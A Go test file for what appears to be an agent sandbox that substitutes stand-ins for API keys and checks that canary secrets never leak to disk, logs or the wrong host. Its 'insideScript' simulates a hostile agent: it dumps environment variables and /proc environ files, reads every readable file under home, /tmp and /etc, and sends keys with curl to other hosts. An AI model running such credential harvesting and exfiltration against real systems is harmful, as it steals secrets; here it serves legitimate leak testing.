package realtest

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// canaries are the keys of the test, by where they are kept.
var canaries = map[string]string{
	"STORE_KEY":   "sk-ant-api03-CanaryStore0123456789abcdefghijklmnopqrstuvwxyzAA",
	"ENV_KEY":     "ghp_CanaryEnvironment0123456789abcdefghij",
	"FILE_KEY":    "AIzaCanaryFile9876543210onmlkjihgfedcba",
	"COMMAND_KEY": "glpat-CanaryCommand0123456789abc",
}

// forms are the texts by which a key would give itself away.
func forms(key string) [][]byte {
	out := [][]byte{[]byte(key), []byte(url.QueryEscape(key)), []byte(hex.EncodeToString([]byte(key)))}
	for before := range 3 {
		text := base64.RawStdEncoding.EncodeToString(append(make([]byte, before), key...))
		out = append(out, []byte(text[4:len(text)-4]))
	}
	return append(out, []byte(key[len(key)/2:])) // half of it, as a stand-in would be wrong to hold
}

// leaked names the canaries that stand in a text.
func leaked(text []byte) (names []string) {
	for name, key := range canaries {
		for _, f := range forms(key) {
			if bytes.Contains(text, f) {
				names = append(names, name)
				break
			}
		}
	}
	return names
}

// leaksBelow searches every file below a directory.
func leaksBelow(t *testing.T, dir string) (found []string) {
	t.Helper()
	files := 0
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return nil // gone by now, or a socket
		}
		text, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		files++
		for _, name := range leaked(text) {
			found = append(found, path+": "+name)
		}
		return nil
	})
	if err != nil || files == 0 {
		t.Fatalf("searching %s: %d files, %v", dir, files, err)
	}
	return found
}

// command runs the node's command line as the rig's person.
func (r *rig) command(stdin string, env []string, args ...string) (string, error) {
	r.t.Helper()
	r.fromOutside()
	node, err := binary()
	r.must(err)
	cmd := exec.Command(node, args...)
	cmd.Env, cmd.Dir, cmd.Stdin = append(r.environ(), env...), r.repo, strings.NewReader(stdin)
	if r.who.uid != os.Getuid() {
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(r.who.uid), Gid: uint32(r.who.gid)}}
	}
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// A vendor wants keys and says what it got, in every way that there is.
type vendor struct {
	mu sync.Mutex
	// mu guards what follows.
	got []http.Header
}

func (v *vendor) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	v.mu.Lock()
	v.got = append(v.got, r.Header.Clone())
	v.mu.Unlock()
	key := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
	w.Header().Set("X-Echo", key)
	fmt.Fprintf(w, "you said %s, %s, %s\n", key, url.QueryEscape(key), base64.StdEncoding.EncodeToString([]byte("user:"+key)))
}

func (v *vendor) saw(value string) bool {
	v.mu.Lock()
	defer v.mu.Unlock()
	for _, h := range v.got {
		for _, values := range h {
			for _, got := range values {
				if got == value {
					return true
				}
			}
		}
	}
	return false
}

// insideScript looks for what a hostile agent would: everything that it can
// read, and everything that servers say.
const insideScript = `
env
cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n'
for key in "$STORE_KEY" "$ENV_KEY" "$FILE_KEY" "$COMMAND_KEY"; do
	curl -sS -i --max-time 30 -H "Authorization: Bearer $key" "$1/echo"
	curl -sS -i --max-time 30 --http1.1 --compressed -H "Authorization: Bearer $key" "$1/echo"
	curl -sS -i --max-time 30 -H "X-Other: $key" "$1/wrong-place"
	curl -sS -i --max-time 30 -H "Authorization: Bearer $key" "$2/wrong-host"
	curl -sS -i --max-time 30 -u "x:$key" "https://denied.realtest.example/denied"
done
find "$HOME" /tmp /run /etc /var/tmp "$PWD" -type f -readable -size -4096k -exec cat {} + 2>/dev/null
cat /proc/self/mountinfo /proc/self/maps
: >seen
while [ ! -e go-on ]; do sleep 0.05; done
`

// whileSeen runs a session of [insideScript], looks while it lives, once it has
// seen all, and answers what it said.
func (r *rig) whileSeen(env, args []string, look func()) (string, error) {
	r.t.Helper()
	var said string
	ended := make(chan error, 1)
	go func() {
		var err error
		said, err = r.command("", env, args...)
		ended <- err
	}()
	beat := time.NewTicker(20 * time.Millisecond)
	defer beat.Stop()
	for {
		select {
		case err := <-ended:
			r.t.Errorf("%v: it ended before it was looked at", args)
			return said, err
		case <-beat.C:
		}
		if _, err := os.Stat(filepath.Join(r.repo, "seen")); err != nil {
			continue
		}
		look()
		r.must(os.WriteFile(filepath.Join(r.repo, "go-on"), nil, 0o644))
		err := <-ended
		for _, name := range []string{"seen", "go-on"} {
			r.must(os.Remove(filepath.Join(r.repo, name)))
		}
		return said, err
	}
}

// leaksOutside searches all that is written while a session lives: what the node
// has of it, and on engine docker what Docker and the gateway have.
func (r *rig) leaksOutside() []string {
	r.t.Helper()
	found := leaksBelow(r.t, r.dir)
	if r.double == nil {
		return found
	}
	for where, text := range r.double.Written(r.t) {
		for _, name := range leaked(text) {
			found = append(found, where+": "+name)
		}
	}
	return found
}

// TestT2_CanaryIsNowhereInside takes keys through every path that they go,
// then searches for them in all that a session saw and in all that was written.
func TestT2_CanaryIsNowhereInside(t *testing.T) {
	everywhere(t, func(t *testing.T, who somebody) {
		programs(t, "curl")
		r := newRig(t, who, map[string]string{webName: "127.0.0.1", plainName: "127.0.0.1"})
		good, bad := &vendor{}, &vendor{}
		port := r.serve("127.0.0.1:0", good, webName)
		other := r.serve("127.0.0.1:0", bad, plainName)
		// What the person has themselves lies outside of what is searched.
		kept := t.TempDir()
		r.must(os.Chmod(kept, 0o711))
		r.must(os.Chmod(filepath.Dir(kept), 0o711))
		keyFile := filepath.Join(kept, "key")
		r.must(os.WriteFile(keyFile, []byte(canaries["FILE_KEY"]+"\n"), 0o600))
		script := filepath.Join(kept, "command")
		r.must(os.WriteFile(script, []byte("#!/bin/sh\necho "+canaries["COMMAND_KEY"]+"\n"), 0o700))
		for _, f := range []string{keyFile, script} {
			r.must(os.Lchown(f, who.uid, who.gid))
		}
		var said strings.Builder
		host := webName + ":" + port
		for name, how := range map[string][]string{
			"STORE_KEY": nil, "ENV_KEY": {"--env", "MY_OWN"}, "FILE_KEY": {"--file", keyFile}, "COMMAND_KEY": {"--command", script},
		} {
			stdin := ""
			if how == nil {
				stdin = canaries[name] + "\n"
			}
			out, err := r.command(stdin, nil, append([]string{"secret", "set", name, "--host", host}, how...)...)
			if err != nil {
				t.Fatalf("setting %s: %v %s", name, err, out)
			}
			said.WriteString(out)
		}
		policy := fmt.Sprintf(`{"version": 1, "secrets": ["STORE_KEY", "ENV_KEY", "FILE_KEY", "COMMAND_KEY", "NOT_THERE?"], "network": {"rules": [
			{"hosts": [%q, %q], "ports": [%s, %s], "addresses": ["127.0.0.0/8"], "methods": ["GET"]}]}}`, webName, plainName, port, other)
		policyFile := r.write("keys.json", policy, 0o644)
		own := []string{"MY_OWN=" + canaries["ENV_KEY"]}
		runs := [][]string{nil, {"--tty", "--record-terminal"}}
		if r.double != nil {
			runs = runs[:1] // a terminal is recorded in the node
		}
		for _, more := range runs {
			args := append(append([]string{"run", "--policy", policyFile}, more...), "--", "sh", "-c", insideScript, "sh", "https://"+host, "https://"+plainName+":"+other)
			out, err := r.whileSeen(own, args, func() {
				if found := r.leaksOutside(); len(found) > 0 {
					t.Errorf("written while it lives: %v", found)
				}
				if r.double == nil {
					return
				}
				r.double.Plant(t, "x"+canaries["FILE_KEY"])
				if found := r.leaksOutside(); len(found) == 0 {
					t.Error("what is planted in a container is not found")
				}
			})
			if more == nil {
				said.WriteString(out)
			} else if err != nil && !strings.Contains(out, "terminal") {
				t.Errorf("%v: %v", more, err)
			}
			said.WriteString(out)
		}
		for name, key := range canaries {
			if !good.saw("Bearer " + key) {
				t.Errorf("%s did not reach its host", name)
			}
			if bad.saw("Bearer " + key) {
				t.Errorf("%s reached another host", name)
			}
		}
		if len(bad.got) > 0 {
			t.Errorf("a request with a stand-in reached another host: %v", bad.got)
		}
		for _, want := range []string{"you said sk-ant-api03-", "you said ghp_", "you said AIza", "you said glpat-", "without the secret NOT_THERE", "goes elsewhere there", "whose key goes to " + host + " only", "denied.realtest.example"} {
			if !strings.Contains(said.String(), want) {
				t.Errorf("%q is not in what was said", want)
			}
		}
		for _, args := range [][]string{{"secret", "list"}, {"secret", "list", "--json"}, {"status", "--json"}, {"session", "list", "--past", "--json"}} {
			out, err := r.command("", own, args...)
			if err != nil {
				t.Errorf("%v: %v", args, err)
			}
			said.WriteString(out)
			for line := range strings.Lines(out) {
				id := strings.TrimSuffix(strings.TrimPrefix(strings.TrimSpace(line), `"id": "`), `",`)
				if id == strings.TrimSpace(line) || args[0] != "session" {
					continue
				}
				for _, more := range [][]string{{"session", "show", id, "--json"}, {"session", "logs", id, "--json"}} {
					out, _ := r.command("", own, more...)
					said.WriteString(out)
				}
			}
		}
		for _, key := range []string{canaries["STORE_KEY"] + " with a blank", canaries["STORE_KEY"] + "\nsecond line"} {
			out, err := r.command(key, nil, "secret", "set", "BAD", "--host", host)
			if err == nil {
				t.Errorf("taken: %s", out)
			}
			said.WriteString(out)
		}
		if names := leaked([]byte(said.String())); len(names) > 0 {
			t.Errorf("shown: %v in\n%s", names, said.String())
		}
		if found := leaksBelow(t, r.dir); len(found) > 0 {
			t.Errorf("written: %v", found)
		}
		// The search is one: what is planted is found, in each form.
		for _, f := range forms(canaries["FILE_KEY"]) {
			planted := filepath.Join(r.dir, "state", "planted")
			r.must(os.WriteFile(planted, append([]byte("x"), f...), 0o600))
			if found := leaksBelow(t, r.dir); len(found) == 0 {
				t.Errorf("%s is not found", f)
			}
			r.must(os.Remove(planted))
		}
	}, both...)
}

// TestH21_TheNodeIsHidden: another program of the same person reads nothing of
// the node's memory, and when the node dies it leaves none behind.
func TestH21_TheNodeIsHidden(t *testing.T) {
	everybody(t, func(t *testing.T, who somebody) {
		r := newRig(t, who, nil)
		dir := fmt.Sprintf("/proc/%d/", r.pid)
		limits, err := os.ReadFile(dir + "limits")
		r.must(err)
		if !regexp.MustCompile(`(?m)^Max core file size +0 `).Match(limits) {
			t.Errorf("the node may leave a core file:\n%s", limits)
		}
		if who.uid == 0 {
			return // who may trace everything
		}
		r.fromOutside()
		for _, name := range []string{"environ", "maps", "mem", "fd/0"} {
			read := exec.Command("head", "-c", "1", dir+name)
			read.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(who.uid), Gid: uint32(who.gid)}}
			if said, err := read.CombinedOutput(); err == nil || !strings.Contains(string(said), "Permission denied") {
				t.Errorf("%s: %v %q", name, err, said)
			}
		}
	})
}

// TestB40_GitPushesWithAStandIn: a token that git sends as the password of
// Basic, decoded, swapped and encoded again.
func TestB40_GitPushesWithAStandIn(t *testing.T) {
	everywhere(t, func(t *testing.T, who somebody) {
		r := newRig(t, who, map[string]string{gitName: "127.0.0.1"})
		backend := r.gitServer()
		wanted := canaries["ENV_KEY"]
		var mu sync.Mutex
		passwords := map[string]bool{}
		port := r.serve("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
			_, password, ok := q.BasicAuth()
			mu.Lock()
			passwords[password] = true
			mu.Unlock()
			if !ok || password != wanted {
				w.Header().Set("WWW-Authenticate", `Basic realm="git"`)
				w.WriteHeader(http.StatusUnauthorized)
				_, _ = io.WriteString(w, "who are you?")
				return
			}
			backend.ServeHTTP(w, q)
		}), gitName)
		if out, err := r.command(wanted, nil, "secret", "set", "GIT_TOKEN", "--host", gitName+":"+port, "--header", "Authorization: basic"); err != nil {
			t.Fatalf("%v %s", err, out)
		}
		policy := strings.Replace(opened(gitName, port, ""), `"network"`, `"secrets": ["GIT_TOKEN"], "network"`, 1)
		res := r.inside(policy, "sh", "-ec", `
git config --global credential.helper '!f() { test "$1" = get && echo username=x-access-token && echo "password=$GIT_TOKEN"; }; f'
git config --global user.name n; git config --global user.email n@n.example
unset GIT_CONFIG_COUNT
git clone -q "$1" /tmp/clone
cd /tmp/clone
git commit -q --allow-empty -m second
git push -q origin HEAD:refs/heads/agent/x
git ls-remote origin
`, "sh", "https://"+gitName+":"+port+"/acme.git").succeed()
		r.mention(res, "refs/heads/agent/x")
		mu.Lock()
		defer mu.Unlock()
		if !passwords[wanted] || len(passwords) > 2 { // and none, the first time
			t.Errorf("%d passwords arrived", len(passwords))
		}
	}, newer...)
}
